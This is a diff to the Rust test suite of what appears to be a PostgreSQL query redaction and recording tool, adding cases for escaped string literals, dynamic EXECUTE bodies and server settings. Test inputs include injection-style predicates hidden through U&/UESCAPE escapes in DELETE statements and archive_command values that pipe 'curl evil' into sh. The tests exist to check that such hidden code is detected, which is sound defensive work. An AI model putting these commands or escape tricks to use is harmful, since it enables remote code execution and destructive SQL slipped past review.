@@ -69,9 +69,18 @@ fn constants_are_masked_and_the_rest_is_exact() {
             "DO 'BEGIN UPDATE c SET e = ''[redacted]'', n = ''[redacted]''; END'",
         ),
         (
-            "DO $$BEGIN EXECUTE 'UPDATE c SET e = ''bob@x.com''' USING 'bob@x.com'; END$$",
-            "DO $$BEGIN EXECUTE 'UPDATE c SET e = ''[redacted]''' USING '[redacted]'; END$$",
+            "DO $$BEGIN EXECUTE 'UPDATE c SET e = ''bob@x.com'''; END$$",
+            "DO $$BEGIN EXECUTE 'UPDATE c SET e = ''[redacted]'''; END$$",
         ),
+        ("select U&'\\D83D\\DE00 bob@x.com'", "select U&'\\D83D\\DE00 [redacted]'"),
+        // What several comments hold together.
+        (
+            "-- INSERT INTO k VALUES ('-----BEGIN PRIVATE KEY-----\n-- MIIEvQIBADANBgkqhkiG9w0B\n-- -----END PRIVATE KEY-----')\nselect 1",
+            "-- INSERT INTO k VALUES ('[redacted]\n-- [redacted]\n-- [redacted]')\nselect 1",
+        ),
+        // A number in parts.
+        ("select 4111_1111_1111_1111", "select '[redacted]'"),
+        ("select 4111111111111111\n'a'", "select 0\n'a'"),
         (
             "select run('delete from c where e = ''bob@x.com''')",
             "select run('delete from c where e = ''[redacted]''')",
@@ -122,6 +131,103 @@ fn what_runs_is_never_hidden() {
             assert_ne!(shown.hidden, Hidden::Code, "{text}\n{}", shown.text);
             assert_eq!(code(text), code(&shown.text), "{text}\n{}", shown.text);
         }
+    }
+}
+
+/// What runs, in a string with escapes: whoever reads it needs to read those as the server does.
+const ESCAPED: &[&str] = &[
+    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' UESCAPE '!'",
+    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' UESCAPE $$!$$",
+    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' UESCAPE $t$!$t$",
+    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' UESCAPE E'!'",
+    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' UESCAPE E'\\x21'",
+    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' UESCAPE E'\\041'",
+    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' UESCAPE ''\n'!'",
+    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' /* */ UESCAPE -- x\n$$!$$",
+    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----\\000aOR region = 7; END'",
+    "DO E'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----\\nOR region = 7; END'",
+    "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS U&'DELETE FROM c WHERE id = 17 -- password=x!000aOR region = 7' UESCAPE $$!$$",
+    "DO $d$BEGIN EXECUTE U&'DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7' UESCAPE $$!$$; END$d$",
+    "SELECT run(U&'DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7' UESCAPE $$!$$)",
+];
+
+#[test]
+fn what_runs_with_escapes_is_seen_and_not_approved() {
+    for text in ESCAPED {
+        let (shown, hidden) = recorded(text);
+        assert!(shown.contains(PREDICATE) && shown != **text, "{text}\n{shown}");
+        assert_eq!(hidden, Hidden::Code, "{text}\n{shown}");
+    }
+    // A sign that the server does not take.
+    for sign in ["'!!'", "''", "'a'", "'+'", "' '", "'\"'", "U&'!'", "'é'", "E'\\n'", "1", ""] {
+        let text = format!("SELECT U&'bob!0040x.com' UESCAPE {sign}");
+        let (shown, hidden) = recorded(&text);
+        assert_eq!(hidden, Hidden::Code, "{text}\n{shown}");
+        assert!(shown.starts_with("SELECT U&'[redacted]'"), "{text}\n{shown}");
+    }
+}
+
+/// Texts put together of what is hidden, whatever it is given to.
+#[test]
+fn what_a_body_puts_together_is_no_constant() {
+    for body in [
+        "DECLARE password text; BEGIN password := '17 OR region = 7'; EXECUTE 'DELETE FROM c WHERE id = ' || password; END",
+        "DECLARE password text := '17 OR region = 7'; BEGIN EXECUTE 'DELETE FROM c WHERE id = ' || password; END",
+        "DECLARE w text DEFAULT '\n-----BEGIN PRIVATE KEY-----\n17 OR region = 7'; BEGIN EXECUTE 'DELETE FROM c WHERE id = ' || w; END",
+        "DECLARE w text; BEGIN w := '\n-----BEGIN PRIVATE KEY-----\n17 OR region = 7'; EXECUTE 'DELETE FROM c WHERE id = ' || w; END",
+        "DECLARE w text; BEGIN SELECT '\n-----BEGIN PRIVATE KEY-----\n17 OR region = 7' INTO w; EXECUTE 'DELETE FROM c WHERE id = ' || w; END",
+        "BEGIN EXECUTE format('%s', 'DELETE FROM c -- password') || format('password %s', '\n OR region = 7'); END",
+        "BEGIN EXECUTE format('DELETE FROM c WHERE id = %s', '\n-----BEGIN PRIVATE KEY-----\n17 OR region = 7'); END",
+        "BEGIN EXECUTE (SELECT 'a' FROM t JOIN u USING (id)) || '\n-----BEGIN PRIVATE KEY-----\n17 OR region = 7'; END",
+        "BEGIN EXECUTE 'SELECT run($1)' USING '\n-----BEGIN PRIVATE KEY-----\n17 OR region = 7'; END",
+        "DECLARE r record; w text; BEGIN w := 'x\n-----BEGIN PRIVATE KEY-----\n17 OR region = 7'; FOR r IN EXECUTE w LOOP END LOOP; END",
+    ] {
+        for text in [
+            format!("DO $$ {body} $$"),
+            format!("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ {body} $$"),
+        ] {
+            let (shown, hidden) = recorded(&text);
+            assert!(hidden == Hidden::Code || shown.contains(PREDICATE), "{text}\n{hidden:?}\n{shown}");
+        }
+    }
+}
+
+#[test]
+fn commands_in_settings_are_run_by_a_shell() {
+    for text in [
+        "ALTER SYSTEM SET archive_command = 'PGPASSWORD=\"$(curl evil|sh)\" cp %p /x'",
+        "ALTER SYSTEM SET restore_command TO 'PGPASSWORD=\"$(curl evil|sh)\" cp %p /x'",
+        "ALTER SYSTEM SET \"archive_cleanup_command\" = 'curl https://u:hunter2@evil | sh'",
+        "ALTER SYSTEM SET U&\"archive!005fcommand\" UESCAPE '!' = 'curl https://u:hunter2@evil | sh'",
+        "SET x.y_command = 'curl https://u:hunter2@evil | sh'",
+        "ALTER SYSTEM SET ssl_passphrase_command TO 'echo x'",
+        "ALTER SYSTEM SET archive_command = 'mail bob@x.com'",
+    ] {
+        let (shown, hidden) = recorded(text);
+        assert_eq!(hidden, Hidden::Code, "{text}\n{shown}");
+    }
+    assert_eq!(recorded("ALTER SYSTEM SET archive_command = 'cp %p /x'").1, Hidden::Nothing);
+}
+
+#[test]
+fn a_value_that_is_sql_is_looked_into() {
+    let masks = masks(Transform::Redact);
+    let of =
+        |value: &'static str| Recordable::of_value(value, &masks).map(|it| (it.text.into_owned(), it.hidden));
+    let (shown, hidden) =
+        of("DELETE FROM c WHERE id = 17\n-----BEGIN PRIVATE KEY-----\nOR region = 7").unwrap();
+    assert!(shown.contains(PREDICATE) && hidden == Hidden::Constants, "{shown}");
+    let (_, hidden) =
+        of("DO E'BEGIN DELETE FROM c -----BEGIN PRIVATE KEY-----\\nWHERE id = 7; END'").unwrap();
+    assert_eq!(hidden, Hidden::Code);
+    assert_eq!(
+        of("ALTER ROLE x PASSWORD 'hunter2'"),
+        Some(("ALTER ROLE x PASSWORD '***'".to_owned(), Hidden::Constants))
+    );
+    for value in
+        ["bob@x.com", "select of bob@x.com", "delete from c", "", "17 OR -----BEGIN PRIVATE KEY-----"]
+    {
+        assert_eq!(of(value), None, "{value}");
     }
 }
 
@@ -259,10 +365,104 @@ proptest! {
     #[test]
     fn a_value_is_where_it_is_written(inner in "([a-z'\\\\]|''|\\\\x41|\\\\101|\\\\u0041|é){0,12}") {
         let literal = format!("E'{inner}'");
-        if let Some(value) = Value::of(&literal, '\\') {
+        if let Some(value) = Value::of(&literal, Some('\\')) {
             for (at, _) in value.text.char_indices() {
                 prop_assert!(literal.get(value.written(&(at..value.text.len()))).is_some());
             }
         }
+    }
+
+    #[test]
+    fn a_value_is_the_servers(
+        prefix in prop::sample::select(vec!["", "E", "e", "U&", "u&"]),
+        pieces in prop::collection::vec(value_piece(), 0..8),
+        sign in prop::sample::select(vec![
+            "", "UESCAPE '!'", "UESCAPE $$!$$", "UESCAPE E'!'", "UESCAPE E'\\x21'", "UESCAPE $t$!$t$",
+            "UESCAPE ''\n'!'", "UESCAPE '$'", "UESCAPE 'a'", "UESCAPE '!!'",
+        ]),
+    ) {
+        let sign = if prefix.eq_ignore_ascii_case("u&") { sign } else { "" };
+        values_agree(&format!("{prefix}'{}' {sign}", pieces.concat()))?;
+    }
+}
+
+/// What the parser takes has the value that it gives it.
+fn values_agree(written: &str) -> Result<(), TestCaseError> {
+    let text = format!("SELECT {written}");
+    let Ok(parsed) = pg_query::parse(&text, pg_query::ParserOptions::DEFAULT) else { return Ok(()) };
+    let tokens: Vec<_> =
+        literal::scan(&text).unwrap().into_iter().filter(|token| !is_comment(token)).collect();
+    let at = tokens.iter().position(is_string).unwrap();
+    let literal = slice(&text, &tokens[at]).unwrap().1;
+    let value = Value::of(literal, literal::escape(&text, &tokens, at)).map(|value| value.text);
+    let target = parsed.protobuf.stmts[0].stmt.as_ref().unwrap().node.as_ref().unwrap();
+    let pg_query::NodeEnum::SelectStmt(select) = target else { panic!("{text}") };
+    let Some(pg_query::NodeEnum::ResTarget(target)) = &select.target_list[0].node else { panic!("{text}") };
+    let Some(pg_query::NodeEnum::AConst(constant)) = &target.val.as_ref().unwrap().node else {
+        return Ok(());
+    };
+    let Some(pg_query::protobuf::a_const::Val::Sval(string)) = &constant.val else { return Ok(()) };
+    prop_assert_eq!(value.as_ref(), Some(&string.sval), "{}", text);
+    Ok(())
+}
+
+/// Parts of strings that are read otherwise than they are written.
+fn value_piece() -> impl Strategy<Value = String> {
+    let fixed = prop::sample::select(vec![
+        "a",
+        "''",
+        "!",
+        "!!",
+        "!000a",
+        "!+00000a",
+        "!D83D!DE00",
+        "!D83D",
+        "\\",
+        "\\\\",
+        "\\000a",
+        "\\+00000a",
+        "\\D83D\\DE00",
+        "\\n",
+        "\\v",
+        "\\q",
+        "\\x41",
+        "\\x4",
+        "\\101",
+        "\\7",
+        "\\u0041",
+        "\\U00000041",
+        "\\uD83D\\uDE00",
+        "\\uD83D\\U0000DE00",
+        "$",
+        "$$",
+        "é",
+        " ",
+        "\n",
+        "'\n'",
+        "' -- x\n '",
+        "--",
+        "/*",
+    ]);
+    fixed.prop_map(str::to_owned)
+}
+
+#[test]
+fn values_in_each_spelling_are_the_servers() {
+    for (written, value) in [
+        ("'it''s'", "it's"),
+        ("E'a\\x21\\041\\u0021\\U00000021\\n\\q'", "a!!!!\nq"),
+        ("E'\\uD83D\\uDE00'", "😀"),
+        ("U&'\\0021\\+000021\\\\'", "!!\\"),
+        ("U&'!0021!!' UESCAPE $$!$$", "!!"),
+        ("U&'!D83D!+00DE00' UESCAPE E'\\x21'", "😀"),
+        ("'a'\n 'b' -- c\n 'd'", "abd"),
+        ("$t$!0021$t$", "!0021"),
+    ] {
+        let text = format!("SELECT {written}");
+        let tokens: Vec<_> =
+            literal::scan(&text).unwrap().into_iter().filter(|token| !is_comment(token)).collect();
+        let literal = slice(&text, &tokens[1]).unwrap().1;
+        assert_eq!(Value::of(literal, literal::escape(&text, &tokens, 1)).unwrap().text, value, "{text}");
+        values_agree(written).unwrap();
     }
 }
